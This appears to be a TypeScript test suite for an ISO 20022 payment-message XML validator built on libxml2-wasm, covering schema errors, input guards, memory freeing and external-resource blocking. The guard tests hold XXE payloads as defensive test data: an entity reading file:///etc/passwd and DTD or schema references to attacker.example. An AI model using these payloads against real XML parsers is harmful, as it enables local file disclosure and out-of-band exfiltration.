import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { xmlCleanupInputProvider, xmlRegisterInputProvider } from 'libxml2-wasm';
import { build } from '../build.ts';
import { Iso20022Error } from '../errors.ts';
import { examplePacs008, officialXsdDir } from '../testing.ts';
import { createValidator, validateTrusted } from './validator.ts';

const xsdDir = officialXsdDir();
const xml = build(examplePacs008());

function code(run: () => unknown): string | undefined {
  try {
    run();
  } catch (e) {
    if (e instanceof Iso20022Error) return e.code;
    throw e;
  }
  return undefined;
}

test('valid documents give no issues; invalid ones give named paths, lines and tidy messages', () => {
  using v = createValidator(xsdDir, { preload: ['pacs.008.001.09'] });
  assert.deepEqual(v.validate(xml, 'pacs.008.001.09'), []);
  const issues = v.validate(xml.replaceAll('<BICFI>CASPKZKA</BICFI>', '<BICFI>caspKZKA</BICFI>'), 'pacs.008.001.09');
  assert.equal(issues.length, 2); // InstdAgt and CdtrAgt
  assert.equal(issues[0]?.path, '/Document/FIToFICstmrCdtTrf/GrpHdr/InstdAgt/FinInstnId/BICFI');
  assert.equal(issues[1]?.path, '/Document/FIToFICstmrCdtTrf/CdtTrfTxInf[1]/CdtrAgt/FinInstnId/BICFI');
  assert.equal(issues[0]?.line, 2); // compact output: declaration, then one line
  assert.match(issues[0]!.message, /^Element 'BICFI': \[facet 'pattern'\]/);
});

test('the guards run before libxml2 sees anything', () => {
  using v = createValidator(xsdDir);
  const hostile = xml.replace('<Document', '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document');
  assert.equal(
    code(() => v.validate(hostile, 'pacs.008.001.09')),
    'xml-hostile',
  );
  assert.equal(
    code(() => v.validate(xml, 'pacs.009.001.09')),
    'wrong-message',
  );
  assert.equal(
    code(() => v.validate(xml, 'pacs.008.001.09', { maxBytes: 100 })),
    'xml-too-large',
  );
  assert.equal(
    code(() => v.validate('<Document', 'pacs.008.001.09')),
    'xml-malformed',
  );
});

test('a missing directory or schema file is xsd-unavailable, not a crash', () => {
  assert.equal(
    code(() => createValidator(join(xsdDir, 'nope'))),
    'xsd-unavailable',
  );
  const partial = mkdtempSync(join(tmpdir(), 'iso20022-xsd-'));
  try {
    copyFileSync(join(xsdDir, 'pacs.008.001.09.xsd'), join(partial, 'pacs.008.001.09.xsd'));
    using v = createValidator(partial);
    assert.deepEqual(v.validate(xml, 'pacs.008.001.09'), []);
    assert.equal(
      code(() => v.preload(['camt.053.001.08'])),
      'xsd-unavailable',
    );
  } finally {
    rmSync(partial, { recursive: true, force: true });
  }
});

test('close frees the schemas; the validator refuses work afterwards', () => {
  const v = createValidator(xsdDir);
  assert.deepEqual(v.validate(xml, 'pacs.008.001.09'), []);
  v.close();
  v.close();
  assert.equal(
    code(() => v.validate(xml, 'pacs.008.001.09')),
    'xsd-unavailable',
  );
});

test('documents are freed after every validation, valid or not (no WASM memory growth)', () => {
  using v = createValidator(xsdDir);
  const invalid = xml.replace('<ChrgBr>SLEV</ChrgBr>', '');
  // Thousands of round trips would exhaust a leaking heap quickly; this must simply keep working.
  for (let i = 0; i < 3000; i++) {
    assert.equal(v.validate(i % 2 === 0 ? xml : invalid, 'pacs.008.001.09').length, i % 2);
  }
});

test('libxml2 asks for no external resource, even past the guards and with a provider ready to serve one', () => {
  const asked: string[] = [];
  xmlRegisterInputProvider({
    match: (name) => {
      asked.push(name);
      return true;
    },
    open: () => undefined,
    read: () => -1,
    close: () => true,
  });
  try {
    using v = createValidator(xsdDir);
    const body = xml.slice(xml.indexOf('<Document'));
    const sneaky = [
      // Normally refused by the guards; here straight to libxml2 to check its own configuration.
      `<!DOCTYPE Document SYSTEM "file:///etc/passwd">${body}`,
      `<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>${body}`,
      body.replace(
        '<Document ',
        '<Document xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://attacker.example/x.xsd" ',
      ),
    ];
    for (const doc of sneaky) {
      try {
        validateTrusted(v, doc, 'pacs.008.001.09');
      } catch (e) {
        assert.ok(e instanceof Iso20022Error);
      }
    }
    assert.deepEqual(asked, []);
  } finally {
    xmlCleanupInputProvider();
  }
});
